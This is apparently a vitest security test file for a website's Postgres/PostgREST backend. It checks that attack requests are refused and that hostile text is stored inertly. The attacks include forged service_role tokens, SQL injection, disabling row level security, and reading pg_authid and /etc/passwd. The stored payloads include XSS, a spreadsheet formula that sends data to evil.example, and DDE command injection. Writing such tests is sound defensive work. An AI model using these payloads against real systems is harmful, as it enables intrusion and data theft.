import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createBackend, type Backend } from '../../site/server/backend/backend.ts';
import type { Database } from '../../site/server/database/database.ts';
import { integrations } from '#spec/integrations.ts';
import { openDatabaseUrl } from '../../site/server/database/open.ts';
import { asAnon } from './support/anon.ts';
import { onEachEngine, onHosted } from './support/engines.ts';
import { pushMigrations } from './support/hosted.ts';
import { asPostgrest, postgrestInsert } from './support/postgrest.ts';
import { insertRequest, type RequestChange } from './support/request.ts';
import { anonKey, application, lead, restPath, tables } from './support/tables.ts';

/** What reaches the database with nothing in front that would look at it: SQL, or the body of an insert. */
type Statement = { readonly sql: string } | { readonly body: string; readonly table: keyof typeof tables };

function sql(text: string): Statement {
  return { sql: text };
}

function insertBody(body: string, table: keyof typeof tables = 'leads'): Statement {
  return { body, table };
}

/** How the site's own server inserts a body. */
function ownStatement(statement: Statement): [sql: string, values: unknown[]] {
  if ('sql' in statement) return [statement.sql, []];
  const { table } = statement;
  const columns = tables[table].columns.join(', ');
  return [
    `insert into public.${table} (${columns}) select ${columns} from json_populate_recordset(null::public.${table}, $1::json)`,
    [statement.body],
  ];
}

function body(change: object): string {
  return JSON.stringify([{ ...lead, ...change }]);
}

function path(rest: string): string {
  return `${restPath}/${rest}`;
}

const many = JSON.stringify(Array.from({ length: 1000 }, () => lead));
const serviceKey = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from('{"role":"service_role"}').toString('base64url')}.c2lnbmF0dXJl`;

/** An attack, what the handler answers to it, and what the database says to it by itself. */
type Attack = [name: string, request: RequestChange, answer: string, statement: Statement, verdict: string];

const attacks: Attack[] = [
  [
    'reading rows',
    { method: 'GET', path: path('leads?select=*') },
    '405 PGRST117',
    sql('select * from public.leads'),
    '42501',
  ],
  [
    'counting rows',
    { method: 'HEAD', path: path('leads'), headers: { prefer: 'count=exact' } },
    '405 PGRST117',
    sql('select count(*) from public.leads'),
    '42501',
  ],
  [
    'changing rows',
    { method: 'PATCH', path: path('leads?name=eq.Ana'), body: '{"name":"x"}' },
    '405 PGRST117',
    sql("update public.leads set name = 'x'"),
    '42501',
  ],
  [
    'deleting rows',
    { method: 'DELETE', path: path('leads?name=eq.Ana') },
    '405 PGRST117',
    sql('delete from public.leads'),
    '42501',
  ],
  [
    'emptying the table',
    { path: path('rpc/truncate'), body: '{}' },
    '404 PGRST205',
    sql('truncate public.leads'),
    '42501',
  ],
  [
    'replacing a row',
    { method: 'PUT', path: path('leads?id=eq.1') },
    '405 PGRST117',
    sql(
      "insert into public.leads (name, email, message) values ('a', 'b', 'c') on conflict (id) do update set name = 'x'",
    ),
    '42501',
  ],
  [
    'merging duplicates',
    { headers: { prefer: 'resolution=merge-duplicates' } },
    '401 42501',
    sql(
      "insert into public.leads (name, email, message) values ('a', 'b', 'c') on conflict (id) do update set message = excluded.message",
    ),
    '42501',
  ],
  [
    'probing for duplicates',
    { path: path('leads?on_conflict=id'), headers: { prefer: 'resolution=ignore-duplicates' } },
    '401 42501',
    sql("insert into public.leads (name, email, message) values ('a', 'b', 'c') on conflict (id) do nothing"),
    '42501',
  ],
  [
    'having the row given back',
    { headers: { prefer: 'return=representation' } },
    '401 42501',
    sql("insert into public.leads (name, email, message) values ('a', 'b', 'c') returning *"),
    '42501',
  ],
  [
    'having other rows given back',
    { path: path('leads?select=*'), headers: { prefer: 'return=representation' } },
    '401 42501',
    sql('insert into public.leads (name, email, message) select name, email, message from public.leads'),
    '42501',
  ],
  [
    'choosing the id',
    { body: body({ id: crypto.randomUUID() }) },
    '400 PGRST204',
    sql("insert into public.leads (id, name, email, message) values (gen_random_uuid(), 'a', 'b', 'c')"),
    '42501',
  ],
  [
    'choosing the time',
    { body: body({ created_at: '2000-01-01' }) },
    '400 PGRST204',
    sql("insert into public.leads (created_at, name, email, message) values (now(), 'a', 'b', 'c')"),
    '42501',
  ],
  [
    'a column that does not exist',
    { body: body({ admin: true }) },
    '400 PGRST204',
    sql("insert into public.leads (admin, name) values (true, 'a')"),
    '42703',
  ],
  [
    'a state of its own',
    { path: path('career_applications'), body: JSON.stringify({ ...application, estado: 'aceptada' }) },
    '401 42501',
    insertBody(JSON.stringify([{ ...application, estado: 'aceptada' }]), 'career_applications'),
    '42501',
  ],
  [
    'a name that is too long',
    { body: body({ name: 'x'.repeat(321) }) },
    '400 23514',
    insertBody(body({ name: 'x'.repeat(321) })),
    '23514',
  ],
  [
    'a message of a megabyte',
    { body: body({ message: 'x'.repeat(1_000_000) }) },
    '413 54000',
    insertBody(body({ message: 'x'.repeat(1_000_000) })),
    '23514',
  ],
  [
    'nothing but spaces',
    { body: body({ message: ' \n\t' }) },
    '400 23514',
    insertBody(body({ message: ' \n\t' })),
    '23514',
  ],
  [
    'two rows at once',
    { body: JSON.stringify([lead, lead]) },
    '400 54000',
    insertBody(JSON.stringify([lead, { ...lead, name: 'Eva' }])),
    'PT400',
  ],
  ['a thousand rows at once', { body: many }, '400 54000', insertBody(many), 'PT429'],
  [
    'no key',
    { headers: { apikey: null, authorization: null } },
    '401 PGRST301',
    sql('grant select on public.leads to anon'),
    '42501',
  ],
  [
    'a forged key',
    { headers: { apikey: serviceKey, authorization: `Bearer ${serviceKey}` } },
    '401 PGRST301',
    sql('select set_config(\'request.jwt.claims\', \'{"role":"service_role"}\', true), * from public.leads'),
    '42501',
  ],
  [
    'a forged token beside the key',
    { headers: { authorization: `Bearer ${serviceKey}` } },
    '401 PGRST301',
    sql('alter table public.leads disable row level security'),
    '42501',
  ],
  ['broken JSON', { body: '[{"name":' }, '400 PGRST102', insertBody('[{"name":'), '22P02'],
  [
    'no JSON at all',
    { body: 'name=Ana', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
    '400 PGRST102',
    insertBody('name=Ana'),
    '22P02',
  ],
  ['a list where a row should be', { body: '[[1]]' }, '400 PGRST102', insertBody('[[1]]'), '22023'],
  [
    'a time that is none',
    { path: path('career_applications'), body: JSON.stringify({ ...application, fecha_aplicacion: 'ayer' }) },
    '400 22007',
    insertBody(JSON.stringify([{ ...application, fecha_aplicacion: 'ayer' }]), 'career_applications'),
    '22007',
  ],
  [
    'an object where a time should be',
    { path: path('career_applications'), body: JSON.stringify({ ...application, fecha_aplicacion: { a: 1 } }) },
    '400 22007',
    insertBody(JSON.stringify([{ ...application, fecha_aplicacion: { a: 1 } }]), 'career_applications'),
    '22007',
  ],
  [
    'null where a text should be',
    { body: body({ name: null }) },
    '400 23502',
    insertBody(body({ name: null })),
    '23502',
  ],
  [
    'a column name that is SQL',
    { body: '[{"name\\") select version(); --":"x"}]' },
    '400 PGRST204',
    sql('insert into public.leads (name) select email from public.career_applications'),
    '42501',
  ],
  [
    'a table name that is SQL',
    { path: path(encodeURIComponent('leads; drop table leads')) },
    '404 PGRST205',
    sql('drop table public.leads'),
    '42501',
  ],
  [
    'a table of the system',
    { path: path('pg_authid') },
    '404 PGRST205',
    sql('select rolpassword from pg_catalog.pg_authid'),
    '42501',
  ],
  [
    'a table of the private schema',
    { path: path('requests'), headers: { 'content-profile': 'site_internal' } },
    '404 PGRST205',
    sql('select * from site_internal.requests'),
    '42501',
  ],
  [
    'a public table by the private schema',
    { headers: { 'content-profile': 'site_internal' } },
    '406 PGRST106',
    sql('insert into site_internal.arrivals (sender) values (null)'),
    '42501',
  ],
  [
    'reading who sent something',
    { method: 'GET', path: path('arrivals') },
    '404 PGRST205',
    sql('select sender from site_internal.arrivals'),
    '42501',
  ],
  [
    'reading the salt',
    { method: 'GET', path: path('salt') },
    '404 PGRST205',
    sql('select value from site_internal.salt'),
    '42501',
  ],
  [
    'changing the salt',
    { method: 'PATCH', path: path('salt'), body: '{}' },
    '404 PGRST205',
    sql("update site_internal.salt set value = ''"),
    '42501',
  ],
  [
    'forgetting what was sent',
    { method: 'DELETE', path: path('arrivals') },
    '404 PGRST205',
    sql('delete from site_internal.arrivals'),
    '42501',
  ],
  [
    'marking a message as stored',
    { path: path('requests'), body: '{"digest":"x"}' },
    '404 PGRST205',
    sql("insert into site_internal.requests (digest) values ('x')"),
    '42501',
  ],
  [
    'reading the list of migrations',
    { method: 'GET', path: path('schema_migrations') },
    '404 PGRST205',
    sql('select * from site_internal.schema_migrations'),
    '42501',
  ],
  [
    'calling the guard',
    { path: path('rpc/guard_request'), body: '{}' },
    '404 PGRST205',
    sql('select site_internal.guard_request()'),
    '42501',
  ],
  [
    'calling the digest of an address',
    { path: path('rpc/digest_of_address'), body: '{"address":"192.0.2.1"}' },
    '404 PGRST205',
    sql("select site_internal.digest_of_address('192.0.2.1')"),
    '42501',
  ],
  [
    'calling the other trigger',
    { path: path('rpc/refuse_many_rows'), body: '{}' },
    '404 PGRST205',
    sql('select site_internal.refuse_many_rows()'),
    '42501',
  ],
  [
    'replacing the guard',
    { path: path('rpc/query'), body: '{}' },
    '404 PGRST205',
    sql('create or replace function site_internal.guard_request() returns trigger language sql as $$ $$'),
    '42501',
  ],
  [
    'switching the guard off',
    { path: path('rpc/set_config'), body: '{"setting_name":"session_replication_role"}' },
    '404 PGRST205',
    sql('alter table public.leads disable trigger leads_guard'),
    '42501',
  ],
  [
    'dropping the policy',
    { path: path('rpc/exec'), body: '{}' },
    '404 PGRST205',
    sql('drop policy leads_insert on public.leads'),
    '42501',
  ],
  [
    'making a trigger of its own',
    { path: path('rpc/exec'), body: '{}' },
    '404 PGRST205',
    sql(
      'create trigger mine before insert on public.leads for each row execute function suppress_redundant_updates_trigger()',
    ),
    '42501',
  ],
  [
    'reading a file of the server',
    { path: path('rpc/pg_read_file'), body: '{"filename":"/etc/passwd"}' },
    '404 PGRST205',
    sql("select pg_read_file('/etc/passwd')"),
    '42501',
  ],
];

/** Texts that would do harm if anything took them for more than text. */
const texts: [name: string, value: string][] = [
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['SQL', "'); drop table public.leads; --"],
  ['SQL in dollar quotes', '$$; delete from public.leads; $$'],
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['a command of a spreadsheet', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a template', '{{constructor.constructor("return process")()}} ${7*7}'],
  ['a path', '../../etc/passwd'],
  ['control characters', 'a\u001b[2J\u0007\r\nSet-Cookie: a=b'],
  ['characters that turn the writing around', '\u202egpj.exe'],
  ['JSON within JSON', '{"__proto__":{"admin":true}}'],
];

onEachEngine('an attack', ({ openMigrated }) => {
  let database: Database;
  let backend: Backend;
  const leads = (): Promise<object[]> => database.query('select name, email, company, message from public.leads');

  beforeAll(async () => {
    database = await openMigrated();
    backend = createBackend({ database, tables, anonKey, restPath });
  }, 60_000);
  beforeEach(async () => {
    await database.script(
      'truncate public.leads, public.career_applications, site_internal.requests, site_internal.arrivals',
    );
    await database.script("insert into public.leads (name, email, message) values ('Ana', 'ana@example.com', 'Hola')");
  });

  it.each(attacks)('%s', async (_name, request, answer, statement, verdict) => {
    const response = await backend.fetch(insertRequest(request), '192.0.2.1');
    const refusal = (await response.json()) as Record<string, unknown>;
    expect(`${response.status} ${String(refusal['code'])}`, 'the handler').toBe(answer);
    expect(Object.keys(refusal), 'what it says').toEqual(['code', 'message', 'details', 'hint']);
    expect(JSON.stringify(refusal), 'what it says').not.toContain('ana@example.com');
    expect(await asAnon(database, ...ownStatement(statement), { 'x-forwarded-for': '192.0.2.1' }), 'the database').toBe(
      verdict,
    );
    expect(await leads(), 'what is stored').toEqual([lead]);
    expect(await database.query('select * from public.career_applications')).toEqual([]);
  });

  it.each(Object.keys(tables))('reading, changing, deleting and emptying %s', async (table) => {
    const statements = [
      `select id from public.${table}`,
      `update public.${table} set id = id`,
      `delete from public.${table}`,
      `truncate public.${table}`,
    ];
    for (const role of ['anon', 'authenticated']) {
      for (const statement of statements) {
        const refused = database.transaction(async (connection) => {
          await connection.query(`set local role ${role}`);
          await connection.query(statement);
        });
        await expect(refused, `${role}: ${statement}`).rejects.toMatchObject({ code: '42501' });
      }
    }
  });

  it.each(texts)('%s as text is stored as it is, and does nothing', async (_name, message) => {
    expect((await backend.fetch(insertRequest({ body: body({ message }) }))).status).toBe(201);
    expect(await asAnon(database, ...ownStatement(insertBody(body({ message }))))).toBe('ok');
    expect(await leads()).toEqual([lead, { ...lead, message }, { ...lead, message }]);
  });

  describe('by the headers of the request', () => {
    const insert = ownStatement(insertBody(body({})));

    it.each<[string, string]>([
      ['SQL', "'); delete from public.leads; --"],
      ['16 kilobytes', 'x'.repeat(16_000)],
      ['JSON', '","x-forwarded-for":"203.0.113.1'],
      ['the key of nobody', '00000000-0000-4000-8000-000000000000'],
    ])('a key that is %s is a key like any other', async (_what, key) => {
      for (const answer of [201, 201]) {
        expect((await backend.fetch(insertRequest({ headers: { 'idempotency-key': key } }), '192.0.2.1')).status).toBe(
          answer,
        );
      }
      expect(await leads()).toHaveLength(2);
      expect(await database.query('select 1 from site_internal.arrivals')).toHaveLength(1);
    });

    it('headers that a client cannot set come to nothing', async () => {
      const forged = {
        'request.headers': '{}',
        'request-headers': '{}',
        'x-forwarded-for': '203.0.113.1',
        role: 'postgres',
        'accept-profile': 'site_internal',
      };
      for (let index = 0; index < integrations.backend.insertsPerMinute; index += 1)
        await backend.fetch(insertRequest(), '192.0.2.1');
      expect((await backend.fetch(insertRequest({ headers: forged }), '192.0.2.1')).status).toBe(429);
    });

    it.each([
      ['no JSON', 'nonsense', '22P02'],
      ['a list', '[1]', 'ok'],
      ['a text', '"x"', 'ok'],
      ['nothing', '', 'ok'],
      ['an object where the key should be', '{"idempotency-key":{"a":[1]},"x-forwarded-for":{}}', 'ok'],
      ['an address that is SQL', '{"x-forwarded-for":"1\'; drop table public.leads; --"}', 'ok'],
    ])('request.headers that are %s break nothing', async (_what, headers, verdict) => {
      const run = database.transaction(async (connection) => {
        await connection.query('set local role anon');
        await connection.query("select set_config('request.headers', $1, true)", [headers]);
        await connection.query(...insert);
      });
      expect(
        await run.then(
          () => 'ok',
          (error: { code: string }) => error.code,
        ),
      ).toBe(verdict);
      expect(await leads()).toHaveLength(verdict === 'ok' ? 2 : 1);
    });

    it('a temporary type does not stand in for one that the guard uses', async () => {
      await database.transaction(async (connection) => {
        await connection.query('set local role anon');
        await connection.query("create type pg_temp.inet as enum ('x')");
        await connection.query("create type pg_temp.bytea as enum ('x')");
        await connection.query(`select set_config('request.headers', '{"x-forwarded-for":"192.0.2.1"}', true)`);
        await connection.query(...insert);
        await connection.query('reset role');
        expect(await connection.query('select 1 from site_internal.arrivals')).toHaveLength(1);
        await connection.script('drop type pg_temp.inet; drop type pg_temp.bytea');
      });
    });
  });
});

onHosted('an attack', (create, add, kind) => {
  let owner: Database;
  let requests: Database;
  const from = { 'x-forwarded-for': '192.0.2.1' };
  const run = async (statement: Statement, headers: Record<string, string> = from): Promise<string> => {
    if ('sql' in statement) return asPostgrest(requests, statement.sql, [], headers);
    const insert = await postgrestInsert(requests, statement.table, tables[statement.table].columns);
    return asPostgrest(requests, insert, [statement.body], headers);
  };
  const leads = (): Promise<object[]> => owner.query('select name, email, company, message from public.leads');

  beforeAll(async () => {
    const project = await create();
    owner = add(await openDatabaseUrl(project.address));
    await pushMigrations(owner);
    requests = add(await openDatabaseUrl(project.requests));
  });
  beforeEach(async () => {
    await owner.script(
      'truncate public.leads, public.career_applications, site_internal.requests, site_internal.arrivals',
    );
    await owner.script("insert into public.leads (name, email, message) values ('Ana', 'ana@example.com', 'Hola')");
  });

  it.each(attacks)('%s', async (_name, _request, _answer, statement, verdict) => {
    expect(await run(statement)).toBe(verdict);
    expect(await leads(), 'what is stored').toEqual([lead]);
    expect(await owner.query('select * from public.career_applications')).toEqual([]);
  });

  it.each(['anon', 'authenticated'])('reading, changing, deleting and emptying a table as %s', async (role) => {
    for (const table of Object.keys(tables)) {
      for (const statement of ['select id from', 'update', 'delete from', 'truncate'].map(
        (verb) => `${verb} public.${table}${verb === 'update' ? ' set id = id' : ''}`,
      )) {
        const refused = requests.transaction(async (connection) => {
          await connection.query(`set local role ${role}`);
          await connection.query(statement);
        });
        await expect(refused, `${role}: ${statement}`).rejects.toMatchObject({ code: '42501' });
      }
    }
  });

  it('reaches a table that nothing guards, as far as such a project lets it', async () => {
    await owner.script('create table public.unguarded (name text)');
    expect(await asPostgrest(requests, 'select * from public.unguarded')).toBe(kind === 'classic' ? 'ok' : '42501');
    expect(await asPostgrest(requests, 'truncate public.unguarded')).toBe('ok');
    await owner.script('drop table public.unguarded');
  });

  it('what is no attack is stored, once, and so many a minute', async () => {
    const { insertsPerMinute } = integrations.backend;
    const send = (key: string, message = 'Hola'): Promise<string> =>
      run(insertBody(body({ message })), { ...from, 'idempotency-key': key });
    for (let index = 0; index < insertsPerMinute; index += 1) expect(await send(`key ${index}`)).toBe('ok');
    expect(await send('key 0')).toBe('ok');
    expect(await send('another')).toBe('PT429');
    expect(await leads()).toHaveLength(1 + insertsPerMinute);
    expect(await run(insertBody(body({})), { 'cf-connecting-ip': '192.0.2.2', ...from })).toBe('ok');
  });
});
